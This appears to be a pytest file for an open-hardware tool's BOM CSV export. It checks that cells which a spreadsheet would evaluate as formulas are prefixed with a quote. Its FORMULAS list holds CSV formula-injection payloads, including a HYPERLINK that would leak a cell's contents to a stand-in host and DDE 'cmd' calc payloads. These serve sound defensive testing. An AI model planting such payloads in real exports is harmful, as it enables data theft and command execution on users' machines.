"""The rolled-up BOM as CSV (ohw.fab.bom_csv): text from the design that a
spreadsheet would run as a formula is written after a quote, in every CSV ohw
writes (ohw bom --format csv, and the kit's bom.csv)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.designs import init_and_commit, write_design
from support.run import run_ohw

from ohw.fab.bom_csv import cell

FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_quoted(formula):
    assert cell(formula) == "'" + formula


@given(st.text())
def test_a_cell_never_begins_a_formula_and_keeps_the_text(text):
    written = cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert written in (text, "'" + text)


def design_with_formulas(folder):
    manifest = (
        "ohw: 1\nname: lamp\ntitle: Lamp\nlicense:\n  hardware: CERN-OHL-S-2.0\n"
        "bom: bom.yaml\nparts:\n  - id: base\n    name: '=1+1'\n    source: base.scad\n"
        "    material: '@PLA'\n    process: 3d-printing\n"
    )
    bom = "items:\n" + "".join(
        f"  - id: item-{n}\n    name: {formula!r}\n    quantity: 1\n"
        f"    suppliers: [{{name: {formula!r}, part-number: {formula!r}, currency: EUR, "
        f"unit-price: 1}}]\n"
        for n, formula in enumerate(FORMULAS)
    )
    return write_design(folder, manifest, {"bom.yaml": bom, "base.scad": "cube(10);\n"})


def formula_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return [value for row in rows[1:] for value in row if value[:1] in "=+-@\t\r" and value]


def test_ohw_bom_csv_holds_no_formula(tmp_path):
    design = design_with_formulas(tmp_path / "lamp")
    done = run_ohw("bom", "--format", "csv", cwd=design)
    assert done.returncode == 0, done.stderr
    assert formula_cells(done.stdout) == []
    assert "'=HYPERLINK" in done.stdout


def test_the_kit_s_bom_csv_holds_no_formula(tmp_path):
    design = design_with_formulas(tmp_path / "lamp")
    init_and_commit(design, "lamp")
    done = run_ohw("fab", "--out", tmp_path / "kit.zip", cwd=design)
    assert done.returncode in (0, 1), done.stderr
    with zipfile.ZipFile(tmp_path / "kit.zip") as kit:
        text = kit.read("bom.csv").decode()
    assert formula_cells(text) == []
    assert "'@SUM" in text
